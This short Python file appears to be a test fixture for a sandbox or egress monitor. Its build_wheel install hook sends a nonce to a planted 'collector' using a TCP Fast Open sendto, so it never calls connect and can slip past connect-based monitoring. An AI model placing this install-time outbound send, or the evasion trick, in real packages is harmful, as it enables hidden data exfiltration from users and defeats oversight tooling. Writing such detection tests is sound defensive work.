"""Sends to a collector without ever calling connect.

One sendto with MSG_FASTOPEN opens the connection and carries the first bytes.
"""

import socket

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("connect"):
        collector = kit.plant("collector")
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as out:
            message = f"{kit.nonce}\n".encode()
            out.sendto(message, socket.MSG_FASTOPEN, (collector.address, collector.port))
    return kit.wheel(wheel_directory)
